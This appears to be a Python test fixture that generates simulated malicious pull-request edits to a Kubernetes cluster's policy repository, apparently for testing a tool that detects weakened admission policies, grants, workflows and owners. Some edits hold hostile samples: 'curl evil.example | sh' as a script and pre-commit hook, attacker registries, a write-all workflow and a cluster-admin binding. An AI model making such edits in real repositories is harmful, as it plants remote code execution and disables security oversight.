"""What a pull request would switch off: policies, their reach, and those who judge."""

from __future__ import annotations

import datetime as dt

from pull_requests.fleet import Change, both, document_edit, replaced, text_edit, values_edit
from support.git_repository import git
from support.yaml_edits import read_all, read_yaml, write_yaml

GRANTS = "policies/privileges"
NEVER = "2099-12-31"


def _policy_files(root):
    return sorted(path for path in (root / "policies/admission").glob("*.yaml") if ".test." not in path.name)


def switch_changes():
    """Of the cluster that refuses what was not granted, where no other is meant."""
    tables = {"switch": _enforcement, "grant": _grants, "admission": _admission, "setting": _settings}
    for kind, table in (*tables.items(), ("out-of-reach", _profiles)):
        for name, edit, gain, where in table():
            cluster = "prod-eu" if "prod-eu" in where or "toolkit-crio" in gain else "lab-t4"
            yield Change(name, edit, gain, where, cluster, kind=kind)
    for name, edit, gain, where in _judges():
        yield Change(name, edit, gain, where, "lab-t4", by_hand=True, kind="judge")


def _enforcement():
    path = "policies/enforcement.yaml"
    yield "enforcement: to Warn", document_edit(path, {"actions": ["Warn", "Audit"]}), "Deny|Warn", "enforcement"
    yield "enforcement: to Audit", document_edit(path, {"actions": ["Audit"]}), "Deny|Audit", "enforcement"
    yield "enforcement: of no cluster", document_edit(path, {"clusters": ["none-*"]}), "lab|Deny", "enforcement"
    yield "enforcement: deleted", lambda root: (root / path).unlink(), "Deny|enforce", "enforcement|policies"
    yield (
        "enforcement: one more script",
        lambda root: _change(root / path, lambda d: d["spec"].update(scripts=["curl evil.example | sh"])),
        "script|evil",
        "enforcement",
    )


def _grants():
    driver = f"{GRANTS}/driver.yaml"
    yield "grant: all clusters", _grant(driver, clusters=["*"]), "driver-pod|cluster", "driver.yaml"
    yield "grant: any workload", _grant(driver, workload="*"), "driver-pod|workload", "driver.yaml"
    yield (
        "grant: one more privilege",
        lambda root: _change(root / driver, lambda d: d["spec"]["privileges"].append("host-network")),
        "host-network",
        "driver.yaml",
    )
    yield (
        "grant: prolonged",
        _grant(driver, expires=dt.date(2099, 12, 31)),
        "2099|expires|driver-pod",
        "driver.yaml",
    )
    yield (
        "grant: any image",
        lambda root: _change_grant(root, "container-toolkit.yaml", "toolkit-container", lambda s: s.pop("images")),
        "toolkit-container|image",
        "container-toolkit",
    )
    yield (
        "grant: any container",
        lambda root: _change_grant(root, "container-toolkit.yaml", "toolkit-container", lambda s: s.pop("containers")),
        "toolkit-container|container",
        "container-toolkit",
    )
    yield (
        "grant: more pools",
        lambda root: _change_grant(root, "container-toolkit.yaml", "toolkit-crio-pod", lambda s: s.update(pools=["*"])),
        "toolkit-crio-pod|pool",
        "container-toolkit",
    )
    wide = {
        "apiVersion": "poolsmith/v1",
        "kind": "PrivilegeGrant",
        "metadata": {"name": "wide"},
        "spec": {
            "clusters": ["*"],
            "pools": ["*"],
            "workload": "*",
            "privileges": ["privileged", "host-path:/:rw:none", "host-network"],
            "reason": "because",
            "owner": "somebody",
            "expires": dt.date(2027, 6, 30),
        },
    }
    yield "grant: a wide one", lambda root: write_yaml(root / GRANTS / "wide.yaml", wide), "wide|privileged", "wide"
    yield (
        "grant: what the change needs",
        both(
            values_edit("prod-eu", {"dcgmExporter.hostNetwork": True}),
            lambda root: write_yaml(
                root / GRANTS / "wide.yaml",
                {**wide, "spec": {**wide["spec"], "clusters": ["prod-eu"], "privileges": ["host-network"]}},
            ),
        ),
        "host-network",
        "prod-eu|wide",
    )


def _admission():
    folder = "policies/admission"
    for name in (
        "host-network",
        "host-paths",
        "image-registries",
        "image-versions",
        "kata-pools",
        "node-labels",
        "privileged-namespaces",
        "toolkit-version",
    ):
        path = f"{folder}/{name}.yaml"
        yield f"policy: {name} deleted", _deleted(path, f"{folder}/{name}.test.yaml"), name, "admission|policies"
        yield f"policy: {name} only audits", _binding(path, {"validationActions": ["Audit"]}), "Audit|Deny|Warn", name
        yield f"policy: {name} binding deleted", _without(path, "ValidatingAdmissionPolicyBinding"), "binding", name
        yield (
            f"policy: {name} binds fewer",
            _binding(path, {"matchResources": {"namespaceSelector": {"matchLabels": {"never": "there"}}}}),
            "never|namespaceSelector|match",
            name,
        )
        yield f"policy: {name} ignores failures", _policy(path, {"failurePolicy": "Ignore"}), "Ignore", name
        yield (
            f"policy: {name} always true",
            _policy(path, {"validations": [{"expression": "true"}]}),
            "true|valid",
            name,
        )
        yield (
            f"policy: {name} except for one",
            _policy(path, {"matchConditions": [{"name": "never", "expression": "request.operation == 'CONNECT'"}]}),
            "match ?condition|never",
            name,
        )
    registries = f"{folder}/image-registries.yaml"
    yield (
        "policy: one more registry",
        replaced(registries, '"nvcr.io/nvidia/",', '"nvcr.io/nvidia/", "registry.evil.example/",'),
        "evil",
        "image-registries",
    )
    yield (
        "policy: renamed and widened",
        both(
            _deleted(f"{folder}/image-registries.test.yaml"),
            replaced(registries, "gpu-image-registries", "gpu-images"),
            replaced(registries, '"nvcr.io/nvidia/",', '"nvcr.io/", "docker.io/",'),
        ),
        "docker.io|gpu-image-registries",
        "image-registries|policies",
    )
    yield (
        "policy: another namespace selector",
        replaced(registries, "values: [gpu-operator,", "values: [gpu-operator2,"),
        "gpu-operator|namespaceSelector",
        "image-registries",
    )
    yield (
        "policy: its variable is changed",
        replaced(
            f"{folder}/host-network.yaml",
            '"monitoring/node-exporter"',
            '"monitoring/node-exporter", "gpu-operator/default"',
        ),
        "gpu-operator/default|variable `allowed`",
        "host-network",
    )
    for name, body in FOREIGN:
        yield (
            f"beside policies: {name}",
            _written(f"{folder}/gained.yaml", body),
            body[-1]["kind"].replace("List", "ConfigMap"),
            "gained",
        )


def _settings():
    rules = "policies/rules.yaml"
    for rule in ("ungranted-privilege", "output-out-of-date", "denied-by-policy", "host-network"):
        yield (
            f"settings: {rule} off",
            document_edit(rules, {f"rules.{rule}": {"enabled": False, "reason": "noise"}}),
            rule,
            "rules.yaml",
        )
        yield (
            f"settings: {rule} a note",
            document_edit(rules, {f"rules.{rule}": {"severity": "note", "reason": "noise"}}),
            rule,
            "rules.yaml",
        )
    yield "settings: no settings", _deleted(rules), "host-network|rule", "rules.yaml|policies"
    waiver = {
        "rule": "ungranted-privilege",
        "subject": "prod-eu/gpu-operator/DaemonSet/nvidia-driver-daemonset",
        "reason": "known",
        "owner": "somebody",
        "expires": "2027-01-31",
    }
    yield (
        "settings: one more waiver",
        lambda root: _change(root / "policies/waivers.yaml", lambda d: d["spec"]["waivers"].append(waiver)),
        "waive",
        "waivers",
    )
    yield (
        "settings: a waiver prolonged",
        replaced("policies/waivers.yaml", '"2027-01-31"', f'"{NEVER}"'),
        "2099|expires|waive",
        "waivers",
    )
    yield (
        "settings: supply widened",
        lambda root: _change(root / "policies/supply.yaml", _widen_supply),
        "evil",
        "supply",
    )
    yield "settings: no supply", _deleted("policies/supply.yaml"), "supply", "supply|policies"


def _widen_supply(document):
    spec = document["spec"]
    for key, value in spec.items():
        if isinstance(value, list) and value and isinstance(value[0], str):
            value.append(f"registry.evil.example/{key}")


def _profiles():
    cluster = "profiles/lab-t4/cluster.yaml"
    yield (
        "reach: Kubernetes 1.29",
        document_edit(cluster, {"kubernetes.version": "1.29"}),
        "1\\.29|policy|Deny",
        "lab-t4",
    )
    yield (
        "reach: Kubernetes 1.25",
        document_edit("profiles/prod-eu/cluster.yaml", {"kubernetes.version": "1.25"}),
        "1\\.25|policy",
        "prod-eu",
    )
    yield (
        "reach: upgradingFrom",
        document_edit(cluster, {"stack.upgradingFrom": "v24.3.0"}),
        "upgradingFrom|v24.3.0",
        "lab-t4",
    )
    yield (
        "reach: another namespace",
        document_edit(cluster, {"stack.namespace": "nvidia"}),
        "namespace|nvidia",
        "lab-t4",
    )
    yield (
        "reach: another pool label",
        document_edit(cluster, {"poolLabel": "example.org/pool"}),
        "poolLabel|pool label|label",
        "lab-t4",
    )
    yield "reach: renamed cluster", _renamed("lab-t4", "t4-lab"), "t4-lab|lab-t4|Deny", "lab-t4|t4-lab"


def _judges():
    workflow = ".github/workflows/profiles.yaml"
    for name, edit in (
        ("workflow deleted", _deleted(workflow)),
        ("workflow: no policies of the base", replaced(workflow, "directory: head", "policies-from: own")),
        ("workflow: never fails", replaced(workflow, "directory: head", "commands: generate")),
        ("workflow: another tool", replaced(workflow, "example/poolsmith@", "evil/poolsmith@")),
        (
            "workflow: goes on after errors",
            replaced(workflow, "    timeout-minutes: 10", "    continue-on-error: true"),
        ),
        ("workflow: another event", replaced(workflow, "pull_request_target:", "workflow_dispatch:")),
    ):
        yield name, edit, "workflow", "workflows"
    yield "workflow: one more with secrets", text_edit(".github/workflows/gained.yaml", _WORKFLOW), "workflow", "gained"
    for path in (".github/CODEOWNERS", "CODEOWNERS", "docs/CODEOWNERS"):
        yield f"owners: {path}", text_edit(path, "* @evil\n"), "CODEOWNERS|owner", "CODEOWNERS"
    yield "owners deleted", _deleted(".github/CODEOWNERS"), "CODEOWNERS|owner", "CODEOWNERS"
    yield (
        "hooks: another repository",
        replaced(".pre-commit-config.yaml", "git.example.com", "git.evil.example"),
        "pre-commit|hook",
        "pre-commit",
    )
    yield (
        "hooks: of their own",
        text_edit(".githooks/pre-commit", "#!/bin/sh\ncurl evil.example | sh\n"),
        "hook",
        "hook",
    )


_WORKFLOW = """\
name: gained
"on": pull_request_target
permissions: write-all
jobs: {}
"""


def _policy_object(kind, name, **spec):
    api = "admissionregistration.k8s.io/v1"
    return {"apiVersion": api, "kind": kind, "metadata": {"name": name}, "spec": spec}


_DUMMY = _policy_object(
    "ValidatingAdmissionPolicy",
    "dummy",
    failurePolicy="Fail",
    paramKind={"apiVersion": "helm.toolkit.fluxcd.io/v2", "kind": "HelmRelease"},
    matchConstraints={
        "resourceRules": [
            {"apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE"], "resources": ["configmaps"]}
        ]
    },
    validations=[{"expression": "true"}],
)
_DUMMY_BINDING = _policy_object(
    "ValidatingAdmissionPolicyBinding",
    "dummy",
    policyName="dummy",
    paramRef={"name": "gained", "namespace": "flux-system", "parameterNotFoundAction": "Deny"},
    validationActions=["Deny"],
)


def _plain(api, kind, **fields):
    return {"apiVersion": api, "kind": kind, "metadata": {"name": "gained", "namespace": "gpu-operator"}, **fields}


FOREIGN = (
    ("ConfigMap", (_plain("v1", "ConfigMap", data={"a": "b"}),)),
    ("Secret", (_plain("v1", "Secret", data={}),)),
    (
        "CRD of the operator's group",
        (
            {
                "apiVersion": "apiextensions.k8s.io/v1",
                "kind": "CustomResourceDefinition",
                "metadata": {"name": "gaineds.nvidia.com"},
                "spec": {
                    "group": "nvidia.com",
                    "names": {"kind": "Gained", "plural": "gaineds"},
                    "scope": "Cluster",
                    "versions": [
                        {
                            "name": "v1",
                            "served": True,
                            "storage": True,
                            "schema": {"openAPIV3Schema": {"type": "object"}},
                        }
                    ],
                },
            },
        ),
    ),
    (
        "HelmRelease as parameter",
        (
            _DUMMY,
            _DUMMY_BINDING,
            _plain(
                "helm.toolkit.fluxcd.io/v2",
                "HelmRelease",
                spec={
                    "interval": "1h",
                    "chart": {"spec": {"chart": "evil", "sourceRef": {"kind": "HelmRepository", "name": "e"}}},
                },
            ),
        ),
    ),
    (
        "ClusterRoleBinding",
        (
            {
                "apiVersion": "rbac.authorization.k8s.io/v1",
                "kind": "ClusterRoleBinding",
                "metadata": {"name": "gained"},
                "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
                "subjects": [{"kind": "ServiceAccount", "name": "default", "namespace": "default"}],
            },
        ),
    ),
    ("DaemonSet", (_plain("apps/v1", "DaemonSet", spec={}),)),
    ("MutatingAdmissionPolicy", (_policy_object("MutatingAdmissionPolicy", "gained", mutations=[]),)),
    ("MutatingWebhookConfiguration", (_plain("admissionregistration.k8s.io/v1", "MutatingWebhookConfiguration"),)),
    ("Application", (_plain("argoproj.io/v1alpha1", "Application", spec={}),)),
    ("List", ({"apiVersion": "v1", "kind": "List", "items": [_plain("v1", "ConfigMap", data={})]},)),
)


def _change(path, change):
    documents = read_all(path)
    change(documents[0])
    write_yaml(path, *documents)


def _grant(path, **fields):
    return lambda root: _change(root / path, lambda document: document["spec"].update(fields))


def _change_grant(root, file, name, change):
    path = root / GRANTS / file
    documents = read_all(path)
    change(next(document["spec"] for document in documents if document["metadata"]["name"] == name))
    write_yaml(path, *documents)


def _written(path, documents):
    return lambda root: write_yaml(root / path, *documents)


def _deleted(*paths):
    def edit(root):
        for path in paths:
            (root / path).unlink()

    return edit


def _without(path, kind):
    def edit(root):
        documents = [document for document in read_all(root / path) if document["kind"] != kind]
        write_yaml(root / path, *documents)

    return edit


def _binding(path, fields):
    return _of_kind(path, "ValidatingAdmissionPolicyBinding", fields)


def _policy(path, fields):
    return _of_kind(path, "ValidatingAdmissionPolicy", fields)


def _of_kind(path, kind, fields):
    def edit(root):
        documents = read_all(root / path)
        for document in documents:
            if document["kind"] == kind:
                document["spec"].update(fields)
        write_yaml(root / path, *documents)

    return edit


def _renamed(old, new):
    def edit(root):
        git(root, "mv", f"profiles/{old}", f"profiles/{new}")
        path = root / "profiles" / new / "cluster.yaml"
        document = read_yaml(path)
        document["metadata"]["name"] = new
        write_yaml(path, document)

    return edit
